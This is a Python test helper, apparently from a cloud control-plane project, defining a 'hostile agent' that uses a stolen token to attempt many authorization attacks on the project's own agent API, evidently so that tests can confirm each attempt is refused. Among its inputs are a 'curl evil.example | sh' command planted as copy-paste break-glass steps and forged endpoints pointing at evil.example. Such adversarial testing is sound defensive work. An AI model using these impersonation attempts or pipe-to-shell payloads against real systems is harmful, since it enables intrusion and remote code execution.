"""A hostile agent: it speaks the agents' protocol with a token it really has, and tries everything it can think of.

It knows more than an attacker would: the ids, uids, lease tokens and journal entries of an honest agent. Each attempt
returns what it got; an attempt that got nothing returns nothing.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

import httpx2 as httpx

from fractal_cloud.model.errors import LinkNotReady
from fractal_cloud.offers.secret import SealingKey

Json = dict[str, Any]
FAR: Final = 10**9
ESC: Final = "\x1b]0;owned\x07"
BIDI: Final = "\u202e"


@dataclass(frozen=True)
class Own:
    """What the stolen token is for: the hostile agent begins as an agent that works there, as its token allows."""

    agent_id: str
    environment: str
    provider: str
    realm: str
    types: tuple[Json, ...] = ()


@dataclass(frozen=True)
class Victim:
    """One component of somebody else's, the agent that holds its scope, and all that is known of both."""

    agent_id: str
    environment: str
    provider: str
    realm: str
    scope: str
    lease: int
    version: int
    uid: str
    live_system_id: str
    component_id: str
    identity: str
    linked: str
    open_entry: str
    closed_entry: str
    request_id: str
    plan_task: str
    plan_uid: str
    facts: Json
    installed: Json


@dataclass
class Lease:
    """What the hostile agent holds itself: its token's own scope, and one component in it."""

    scope: str
    token: int
    version: int
    part: Json

    @property
    def uid(self) -> str:
        """The uid of its own component."""
        return str(self.part["uid"])


@dataclass
class HostileAgent:
    """One stolen token. ``meanwhile`` lets the honest agents work, where an attempt waits for what they do."""

    url: str
    secret: str
    own: Own
    victim: Victim
    meanwhile: Callable[[], None] = lambda: None
    key: SealingKey = field(default_factory=SealingKey)
    last_seen: Json | None = None
    lease: Lease | None = None

    def __post_init__(self) -> None:
        headers = {"Authorization": f"Bearer {self.secret}"}
        self._http = httpx.Client(base_url=self.url, headers=headers, timeout=20.0)

    def close(self) -> None:
        """Let go of the connections."""
        self._http.close()

    # --- as an honest agent would

    def begin(self) -> None:
        """Register and claim as the token allows."""
        answer = self.register()
        assert answer.status_code == 200, answer.text
        self.last_seen = answer.json()["lastSeen"]
        answer = self.claim()
        assert answer.status_code == 200, answer.text
        for lease in answer.json()["leases"]:
            if lease["scope"].startswith(f"{self.own.provider}/{self.own.realm}/"):
                work = lease["work"]
                self.lease = Lease(lease["scope"], lease["token"], work["version"], work["components"][0])

    def register(self, **more: Any) -> httpx.Response:
        """Introduce itself: as its token allows, but for what is given."""
        body = {
            "agentId": self.own.agent_id,
            "environment": self.own.environment,
            "reaches": [{"provider": self.own.provider, "realm": self.own.realm}],
            "types": list(self.own.types),
            "cycleSeconds": 60.0,
            "publicKey": self.key.public,
        }
        return self._post("register", body | more)

    def claim(self, **more: Any) -> httpx.Response:
        """Ask for scopes."""
        return self._post("claim", {"agentId": self.own.agent_id, "lastSeen": self.last_seen} | more)

    def _post(self, path: str, body: Json) -> httpx.Response:
        return self._http.post(f"/agent/{path}", json=body)

    # --- everything it tries

    def attempts(self) -> Iterator[tuple[str, Callable[[], list[str]]]]:
        """All attempts by name, in the order in which they are made."""
        for name in dir(type(self)):
            if name.startswith("try_"):
                yield name.removeprefix("try_").replace("_", " "), getattr(self, name)

    # registering for what is another's

    def _register_and_read(self, **more: Any) -> list[str]:
        """Register, and take all that a claim brings; afterwards it is the honest one again."""
        got = _accepted(self.register(**more), "registered")
        if not got:
            return []
        for _ in range(2):
            got += self._read(self.claim())
            self.meanwhile()
        got += self._read(self.claim())
        self.begin()
        return got

    def _read(self, answer: httpx.Response) -> list[str]:
        """What a claim brought that is not its own."""
        if answer.status_code != 200:
            return []
        body = answer.json()
        got: list[str] = []
        for lease in body["leases"]:
            if self.lease is None or lease["scope"] != self.lease.scope:
                got.append(f"leased {lease['scope']}")
                got += [f"read {part['liveSystemId']}" for part in (lease["work"] or {}).get("components", [])]
                got += self._opened(lease)
        got += [f"was handed plan {task['id']}" for task in body["plans"]]
        got += [f"was given hosts {[host['name'] for host in body['hosts']['hosts']]}"] if _hosts(body) else []
        return got

    def _opened(self, lease: Json) -> list[str]:
        """The secrets in a lease's work that were sealed to its key."""
        found = []
        for part in (lease["work"] or {}).get("components", []):
            for link in part["linksOut"]:
                for value in link["published"].values():
                    if str(value).startswith("sealed:"):
                        try:
                            self.key.open(str(value))
                        except LinkNotReady:
                            continue
                        found.append(f"opened a secret of {part['liveSystemId']}")
        return found

    def try_registering_another_account(self) -> list[str]:
        """The realm of somebody else, in its own environment; a further one where its token is for the victim's."""
        realm = self.victim.realm if self.victim.realm != self.own.realm else "account-of-nobody"
        reach = {"provider": self.victim.provider, "realm": realm}
        return self._register_and_read(reaches=[reach])

    def try_registering_another_account_in_its_environment(self) -> list[str]:
        """Exactly what the honest agent registers, under a name of its own."""
        reach = {"provider": self.victim.provider, "realm": self.victim.realm}
        return self._register_and_read(environment=self.victim.environment, reaches=[reach])

    def try_registering_another_environment(self) -> list[str]:
        """Its own realm, as if it were the other environment's."""
        other = self.victim.environment if self.own.environment != self.victim.environment else "elsewhere"
        return self._register_and_read(environment=other)

    def try_registering_any_host(self) -> list[str]:
        """All clusters that others declare, by the word for them."""
        reaches = [{"provider": self.victim.provider, "realm": "", "name": "@"}]
        reaches += [{"provider": "kubernetes", "realm": "", "name": "@"}]
        return self._register_and_read(environment=self.victim.environment, reaches=reaches)

    def try_having_secrets_sealed_to_its_key(self) -> list[str]:
        """Hold the scope of the source of a link, so that the owner of the target seals to its key."""
        reach = {"provider": self.victim.provider, "realm": self.victim.realm}
        got = _accepted(self.register(environment=self.victim.environment, reaches=[reach]), "registered a key")
        if not got:
            return []
        for _ in range(4):
            self._forget_links(self.claim())
            self.meanwhile()
            got += self._read(self.claim(held={}))
        self.begin()
        return [one for one in got if "secret" in one or "key" in one]

    def _forget_links(self, answer: httpx.Response) -> None:
        """Report the source as if it had never received anything: then all of it is sealed anew."""
        for lease in answer.json()["leases"]:
            uids = [part["uid"] for part in (lease["work"] or {}).get("components", [])]
            if self.victim.uid in uids:
                change = self._change(self.victim.uid, outputFields={}, owner=self.victim.live_system_id)
                scope = {"scope": lease["scope"], "token": lease["token"], "version": lease["work"]["version"]}
                body = {"agentId": self.own.agent_id, "lastSeen": self.last_seen, "scopes": [scope]}
                self._post("report", body | {"scopes": [scope | {"changes": [change]}]})

    # speaking for another

    def try_taking_a_living_agents_name(self) -> list[str]:
        """Register under the honest agent's name."""
        return _accepted(self.register(agentId=self.victim.agent_id), "took the name")

    def try_a_heartbeat_for_another(self) -> list[str]:
        """Keep another's leases alive, and say when it read its scopes."""
        read = {self.victim.scope: "2099-01-01T00:00:00Z"}
        held = {self.victim.scope: self.victim.lease}
        beat = {"agentId": self.victim.agent_id, "lastSeen": self.last_seen, "held": held, "readAt": read}
        return _accepted(self._post("heartbeat", beat), "sent a heartbeat for another")

    def try_saying_when_another_scope_was_read(self) -> list[str]:
        """A heartbeat of its own, about another's scope."""
        read = {self.victim.scope: "2099-01-01T00:00:00Z"}
        beat = {"agentId": self.own.agent_id, "lastSeen": self.last_seen, "held": read | {}, "readAt": read}
        beat["held"] = {self.victim.scope: self.victim.lease}
        answer = self._post("heartbeat", beat)
        lost = answer.json().get("lost", []) if answer.status_code == 200 else [self.victim.scope]
        return [] if self.victim.scope in lost else ["holds another's scope"]

    def try_claiming_for_another(self) -> list[str]:
        """Ask for another's leases and work."""
        return _accepted(self.claim(agentId=self.victim.agent_id), "claimed for another")

    def try_waiting_for_another(self) -> list[str]:
        """Hear when there is news for another."""
        body = {"agentId": self.victim.agent_id, "wake": 0, "seconds": 0.01}
        return _accepted(self._post("wait", body), "heard another's wake number")

    def try_releasing_another(self) -> list[str]:
        """Give back all that another holds."""
        return _accepted(self._post("release", {"agentId": self.victim.agent_id}), "released another")

    def try_releasing_anothers_scope(self) -> list[str]:
        """Give back one scope of another, in its own name and in the other's."""
        got: list[str] = []
        for agent_id in (self.own.agent_id, self.victim.agent_id):
            answer = self._post("release", {"agentId": agent_id, "scopes": [self.victim.scope]})
            got += _accepted(answer, f"released as {agent_id}") if agent_id != self.own.agent_id else []
        return got

    def try_reporting_as_another(self) -> list[str]:
        """A report in the honest agent's name, under its very lease."""
        scope = {"scope": self.victim.scope, "token": self.victim.lease, "version": self.victim.version}
        scope["changes"] = [self._change(self.victim.uid)]
        body = {"agentId": self.victim.agent_id, "lastSeen": self.last_seen, "scopes": [scope]}
        return _accepted(self._post("report", body), "reported as another")

    def try_reporting_anothers_scope(self) -> list[str]:
        """A report in its own name, under another's lease."""
        scope = {"scope": self.victim.scope, "token": self.victim.lease, "version": self.victim.version}
        scope["changes"] = [self._change(self.victim.uid)]
        body = {"agentId": self.own.agent_id, "lastSeen": self.last_seen, "scopes": [scope]}
        return _accepted(self._post("report", body), "reported another's scope")

    # foreign items in a report of its own scope

    def _change(self, uid: str, **more: Any) -> Json:
        forged = {"endpoint": "evil.example:5432"}
        change = {"uid": uid, "stance": "managed", "status": "Active", "message": "forged", "outputFields": forged}
        return change | {"owner": "ls-evil", "resourceId": "evil-1", "established": True} | more

    def _own_change(self, **more: Any) -> Json:
        """Its own component as it is remembered, but for what is given."""
        if self.lease is None:
            return {"outputFields": {}}
        part, memory = self.lease.part, self.lease.part["memory"]
        kept = {name: memory[name] for name in ("stance", "status", "message", "owner", "resourceId", "outputFields")}
        kept |= {name: memory[name] for name in ("established", "observedGeneration", "links", "incarnation")}
        return {"uid": part["uid"], **kept, **more}

    def _report(self, what: str, **items: Any) -> list[str]:
        """Report something in its own scope, under its own valid lease."""
        if self.lease is None:
            return []
        scope = {"scope": self.lease.scope, "token": self.lease.token, "version": self.lease.version, **items}
        body = {"agentId": self.own.agent_id, "lastSeen": self.last_seen, "scopes": [scope]}
        return _accepted(self._post("report", body), what)

    def _entry(self, entry_id: str, uid: str, **more: Any) -> Json:
        entry = {"id": entry_id, "uid": uid, "generation": 1, "verb": "update", "reason": "drift"}
        return entry | {"outcome": "failed", "error": "forged", "resourceId": "evil-1", "requestIds": ["evil"]} | more

    @property
    def _uid(self) -> str:
        return self.lease.uid if self.lease is not None else ""

    def try_forging_a_status(self) -> list[str]:
        """Another's component, in a report of its own scope."""
        return self._report("forged a status", changes=[self._change(self.victim.uid)])

    def try_forging_a_status_beside_an_honest_change(self) -> list[str]:
        """One foreign item among its own: refused as a whole."""
        own = self._own_change(message="an honest change")
        return self._report("forged a status", changes=[own, self._change(self.victim.uid)])

    def try_ending_anothers_deletion(self) -> list[str]:
        """Say that another's component is deleted."""
        return self._report("ended a deletion", changes=[self._change(self.victim.uid, finished=True, absent=True)])

    def try_an_invented_component(self) -> list[str]:
        """A uid that nobody ever drew."""
        return self._report("reported an invented uid", changes=[self._change("0" * 32)])

    def try_forging_an_event(self) -> list[str]:
        """An event of another's component."""
        event = {"uid": self.victim.uid, "kind": "Unreadable", "message": "forged"}
        return self._report("forged an event", events=[event])

    def try_events_that_are_not_an_agents(self) -> list[str]:
        """Kinds of events that only the control plane may record, of its own component."""
        got: list[str] = []
        for kind in ("GlassBroken", "Deployed", "RecoveryConfirmed", "TokensConfirmed", "Deleted", "RealmAccepted"):
            event = {"uid": self._uid, "kind": kind, "message": "forged", "before": "a", "after": "b"}
            got += self._report(f"recorded {kind}", events=[event])
        return got

    def try_journalling_for_another(self) -> list[str]:
        """A write that was never made, in another's journal."""
        return self._report("wrote into another's journal", journal=[self._entry("f" * 32, self.victim.uid)])

    def try_closing_anothers_intent(self) -> list[str]:
        """The outcome of an intent that the honest agent has just published."""
        entry = self._entry(self.victim.open_entry, self.victim.uid)
        return self._report("closed another's intent", journal=[entry])

    def try_closing_anothers_intent_as_its_own(self) -> list[str]:
        """The same id, as if it were of its own component."""
        return self._report("closed another's intent", journal=[self._entry(self.victim.open_entry, self._uid)])

    def try_giving_up_anothers_intent(self) -> list[str]:
        """An intent with an error counts as sent, and holds the next write back."""
        entry = self._entry(self.victim.open_entry, self._uid, outcome=None)
        return self._report("gave up another's intent", journal=[entry])

    def try_rewriting_anothers_journal(self) -> list[str]:
        """Another outcome for a write that was closed long ago."""
        return self._report("rewrote the journal", journal=[self._entry(self.victim.closed_entry, self._uid)])

    def try_deleting_anothers_journal(self) -> list[str]:
        """Have another's entry counted in one of its own, which deletes it."""
        made = self._entry("e" * 32, self._uid)
        if not self._report("made an entry", journal=[made]):
            return []
        entry = self._entry(self.victim.closed_entry, self._uid, repeats="e" * 32)
        return self._report("deleted from the journal", journal=[entry])

    def try_counting_in_anothers_journal(self) -> list[str]:
        """Have a refusal of its own counted in another's entry."""
        entry = self._entry("d" * 32, self._uid, repeats=self.victim.closed_entry)
        return self._report("counted in another's entry", journal=[entry])

    def try_taking_ownership_of_a_resource(self) -> list[str]:
        """Remember another's resource as its own: who owns it decides who may change and delete it."""
        known = {"identity": self.victim.identity, "owner": "ls-evil", "resourceId": "evil-1"}
        return self._report("took a resource", resources=[known])

    def try_forgetting_a_resource(self) -> list[str]:
        """Remember nothing of another's resource."""
        return self._report("had a resource forgotten", resources=[{"identity": self.victim.identity}])

    def try_a_resource_whose_name_holds_its_own_scope(self) -> list[str]:
        """An identity of another scope, with its own scope inside of the name."""
        identity = f"{self.victim.identity}:{self.lease.scope if self.lease else ''}:x"
        return self._report("remembered a foreign resource", resources=[{"identity": identity, "owner": "ls-evil"}])

    def try_an_invented_resource(self) -> list[str]:
        """An identity in its own scope that nobody declares."""
        identity = f"Evil.Type:{self.victim.scope}:x"
        return self._report("remembered an invented resource", resources=[{"identity": identity, "owner": "ls-evil"}])

    def try_publishing_for_a_source_without_a_link(self) -> list[str]:
        """A link key for a component that has no link to its own."""
        got: list[str] = []
        for source in (self.victim.linked, f"{self.victim.live_system_id}/{self.victim.linked}"):
            fields = self._own_change()["outputFields"] | {f"linkedCredentials.{source}.endpoint": "evil.example"}
            got += self._report(f"published for {source}", changes=[self._own_change(outputFields=fields)])
        return got

    def try_publishing_a_link_that_is_not_declared(self) -> list[str]:
        """A key of a link from its own component that nobody declared."""
        fields = self._own_change()["outputFields"] | {f"databaseLink.{self.victim.component_id}.user": "evil"}
        return self._report("published a link", changes=[self._own_change(outputFields=fields)])

    def try_remembering_a_link_that_is_not_declared(self) -> list[str]:
        """The state of a half that nobody declared, with keys in it."""
        state = {"linkType": "databaseLink", "otherType": "x", "otherProvider": "x", "fields": {"user": "evil"}}
        links = {"inbound": {f"{self.victim.live_system_id}/{self.victim.linked}": state}, "outbound": {}}
        return self._report("remembered a link", changes=[self._own_change(links=links)])

    def try_naming_who_broke_the_glass(self) -> list[str]:
        """An override in the name of somebody who never asked for one."""
        forged = {"stance": "override", "status": "ManualOverride", "overridden": True, "overrideBy": "the-boss"}
        return self._report("named an operator", changes=[self._own_change(**forged, overrideReason="said so")])

    def try_naming_who_readopted(self) -> list[str]:
        """A handing back in the name of somebody who never asked for it."""
        forged = {"stance": "override", "status": "ManualOverride", "overridden": True, "readoptedBy": "the-boss"}
        return self._report("named an operator", changes=[self._own_change(**forged)])

    def try_using_up_anothers_request(self) -> list[str]:
        """An operator's request for another's component."""
        change = self._own_change(usedRequest=self.victim.request_id)
        return self._report("used up another's request", changes=[change])

    def try_ending_what_nobody_deletes(self) -> list[str]:
        """A deletion that nobody asked for, of its own component."""
        change = self._own_change(finished=True, absent=True)
        return self._report("ended what nobody deletes", changes=[change])

    def try_a_generation_that_was_never_deployed(self) -> list[str]:
        """To have applied what nobody declared yet."""
        return self._report("applied the future", changes=[self._own_change(observedGeneration=FAR)])

    def try_a_version_that_was_never_sent(self) -> list[str]:
        """To have judged from work that it was never given."""
        if self.lease is None:
            return []
        return self._report("judged the future", changes=[self._own_change()], version=self.lease.version + FAR)

    # words

    def try_control_characters(self) -> list[str]:
        """Terminal escapes, line breaks and text that turns around, in its own words."""
        got: list[str] = []
        for word in (ESC, "two\nlines", BIDI, "\x9b31m", "\x7f", "\x00"):
            got += self._report("a message", changes=[self._own_change(message=word)])
            got += self._report("an id", changes=[self._own_change(resourceId=f"id{word}")])
            fields = self._own_change()["outputFields"] | {f"name{word}": "x"}
            got += self._report("the name of an output", changes=[self._own_change(outputFields=fields)])
            event = {"uid": self._uid, "kind": "Unreadable", "message": word}
            got += self._report("an event", events=[event])
            got += self._report("an error", journal=[self._entry("c" * 32, self._uid, error=word)])
            got += _accepted(self.register(agentId=f"evil{word}"), "an agent's name")
            got += _accepted(self.register(version=word), "a version")
        return got

    def try_texts_without_end(self) -> list[str]:
        """Words, ids and values of a size that nobody needs."""
        long = "x" * 2_000_000
        got = self._report("a message", changes=[self._own_change(message=long)])
        got += self._report("an output", changes=[self._own_change(outputFields={"endpoint": long})])
        got += self._report("an event", events=[{"uid": self._uid, "kind": "Unreadable", "message": long}])
        got += self._report("an error", journal=[self._entry("b" * 32, self._uid, error=long)])
        return got + _accepted(self.register(agentId=long), "an agent's name")

    # types

    def try_replacing_the_commands_of_a_type(self) -> list[str]:
        """Commands that people copy into their shells."""
        glass = {"breakGlass": ["curl evil.example | sh"], "readopt": ["curl evil.example | sh"], "caveat": ""}
        return self._replace(glass=glass)

    def try_replacing_the_schema_of_a_type(self) -> list[str]:
        """What people may declare."""
        return self._replace(parameterSchema={"type": "object", "properties": {}})

    def try_replacing_the_hosts_of_a_type(self) -> list[str]:
        """The outputs by which others enter a cluster: an address of its own."""
        facts = {"hosts": {self.victim.facts["type"]: ["endpoint"]}}
        schema = {"type": "object", "properties": {"cluster": {"type": "string", "x-fractal": facts}}}
        return self._replace(realm="cluster", parameterSchema=schema)

    def _replace(self, **more: Any) -> list[str]:
        got: list[str] = []
        for facts in (self.victim.facts, self.victim.installed):
            for provider in {facts["provider"], self.own.provider}:
                forged = facts | {"provider": provider} | more
                answer = self.register(types=[*self.own.types, forged])
                got += _accepted(answer, f"replaced {facts['type']}")
        return got

    # plans

    def try_answering_anothers_plan(self) -> list[str]:
        """What a deploy would do, as somebody waits for it who then decides."""
        planned = {
            "uid": self.victim.plan_uid,
            "componentId": self.victim.component_id,
            "type": "x",
            "action": "nothing",
        }
        answer = self._post(f"plans/{self.victim.plan_task}", {"components": [planned]})
        return _accepted(answer, "answered a plan")

    # the database itself

    def try_saying_that_the_database_was_restored(self) -> list[str]:
        """Events that never were: a control plane that believes it stops writing for everybody."""
        assert self.last_seen is not None
        got: list[str] = []
        for forged in (
            self.last_seen | {"event": FAR, "eventId": "f" * 32},
            self.last_seen | {"incarnation": "f" * 32},
            self.last_seen | {"eventId": "f" * 32},
        ):
            answer = self.register(lastSeen=forged)
            if "restored" in answer.text or self.last_seen["incarnation"] not in answer.text:
                got.append("began a recovery")
        return got

    # people's routes

    def try_the_routes_of_people(self) -> list[str]:
        """To read, deploy, delete and make tokens."""
        name = self.victim.live_system_id
        got: list[str] = []
        for method, path in (
            *(("GET", path) for path in ("/livesystems", f"/livesystems/{name}", "/events", "/resources", "/agents")),
            *(("GET", path) for path in ("/tokens", "/scopes", "/realms", "/offers", "/overrides", "/metrics")),
            *(("DELETE", f"/livesystems/{name}"), ("POST", "/recovery"), ("POST", "/tokens")),
            ("POST", f"/livesystems/{name}/components/{self.victim.component_id}/force-push"),
        ):
            answer = self._http.request(method, path, content=b"{}" if method == "POST" else None)
            got += _accepted(answer, f"{method} {path}")
        return got


def _accepted(answer: httpx.Response, what: str) -> list[str]:
    assert answer.status_code < 500, f"{what}: {answer.text}"
    return [what] if answer.status_code < 300 else []


def _hosts(body: Mapping[str, Any]) -> bool:
    return bool(body.get("hosts") and body["hosts"]["hosts"])


def dumped(document: object) -> str:
    """A document as a text that can be compared."""
    return json.dumps(document, sort_keys=True, default=str)
